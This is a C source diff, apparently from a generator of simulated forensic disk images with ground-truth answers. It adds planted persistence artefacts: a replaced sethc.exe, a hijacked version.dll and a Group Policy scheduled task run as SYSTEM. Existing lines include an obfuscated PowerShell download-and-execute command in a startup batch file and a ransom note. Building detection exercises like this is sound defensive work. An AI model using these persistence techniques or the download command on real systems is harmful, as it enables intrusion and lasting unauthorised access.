@@ -171,6 +171,27 @@ static void hive(struct lab *l, const char *path, const char *name, const char *
 static const char *const of_lsass[] = { "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\lsasrv.dll", NULL };
 static const char *const of_w3wp[]  = { "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Windows\\System32\\ntdll.dll", NULL };
 
+/* `name` NULL: a program of nobody. */
+static void program(struct lab *l, const char *path, const char *name, const char *text, const char *when)
+{
+    struct buf b = { 0 };
+
+    if (name)
+        pe_versioned(&b, "10.0.14393.1", name, text);
+    else
+        pe_strings(&b, &text, 1);
+    put(l, path, &b, when);
+    buf_free(&b);
+}
+
+#define POLICY "C/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"
+static void policy_task(struct lab *l, const char *name, const char *command, const char *arguments, const char *when)
+{
+    put_text(l, POLICY, when, pool_fmt(&l->keep, "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<ScheduledTasks clsid=\"{CC63F200-7309-4ba0-B154-A71CD118DBCC}\"><ImmediateTaskV2 name=\"%s\"><Properties action=\"C\" name=\"%s\" "
+        "runAs=\"NT AUTHORITY\\System\"><Task version=\"1.3\"><Actions Context=\"Author\"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2></ScheduledTasks>\n",
+        name, name, command, arguments));
+}
+
 void tell_ways_files(struct lab *l)
 {
     const char *gone = web(l, "aspnet_client/cellar.aspx");
@@ -225,13 +246,18 @@ void tell_ways_files(struct lab *l)
     put_text(l, "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/sync.bat", TIME_PLANTED, "powers@hell -nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/d')\n");
     put_text(l, "C/!read_me.txt", TIME_PLANTED, "All your files were encrypted. Pay in bitcoin. Your personal ID: 17. Reach us with the Tor Browser.\n");
 
+    /* In the place of others, and by policy. */
+    program(l, "C/Windows/System32/sethc.exe", NULL, "tea", TIME_PLANTED);
+    program(l, pool_fmt(&l->keep, "%s/Bin/version.dll", l->at.install), NULL, "milk", TIME_PLANTED);
+    policy_task(l, "Brew", "C:\\Users\\Public\\brew.exe", "-k", TIME_PLANTED);
+
     all_covered(l);
     entered(l, 1);
     door(l, "present", false, false);
     truth_drop(l, "use.covered");
     truth_text(l, "theft.state", "none_seen");
     truth_door_use(l, truth_door(l, win_path(l, gone), "removed", "not_seen_used"), NULL, 0, NULL, 0);
-    static const char *const ways[] = { "ConsoleHost_history.txt", "profile.ps1", "WinUpdateConsumer", "Windows Update Job", "x.dat", "nt.tmp", "s.bin", "frp", "sync.bat" };
+    static const char *const ways[] = { "ConsoleHost_history.txt", "profile.ps1", "WinUpdateConsumer", "Windows Update Job", "x.dat", "nt.tmp", "s.bin", "frp", "sync.bat", "sethc.exe", "version.dll", "Brew" };
     for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
         truth_list(l, "ways_back", ways[i]);
     truth_list(l, "intruder_clients", someone.client);
@@ -285,5 +311,10 @@ void tell_ways_files_benign(struct lab *l)
     put_text(l, PROFILES "AppData/Roaming/rclone/rclone.conf", "2020-06-01T08:00:00", "[backup]\ntype = s3\nprovider = Other\n");
     put_text(l, "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/desktop.ini", "2020-06-01T08:00:00", "[.ShellClassInfo]\n");
     put_text(l, "C/read_me.txt", "2020-06-01T08:00:00", "Backups are encrypted. The payment of the licence is due in May.\n");
+    program(l, "C/Windows/System32/cmd.exe", "Cmd.Exe", "Windows Command Processor", "2020-06-01T08:00:00");
+    program(l, "C/Windows/System32/sethc.exe", "SETHC.EXE", "Accessibility shortcut keys", "2020-06-01T08:00:00");
+    program(l, "C/Windows/System32/version.dll", "VERSION.DLL", "Version Checking and File Installation Libraries", "2020-06-01T08:00:00");
+    program(l, "C/Windows/System32/oci.dll", "oci.dll", "Oracle Call Interface", "2020-06-01T08:00:00");
+    policy_task(l, "Inventory", "\\\\bakery.example\\netlogon\\inventory.exe", "/s", "2020-06-01T08:00:00");
     all_covered(l);
 }
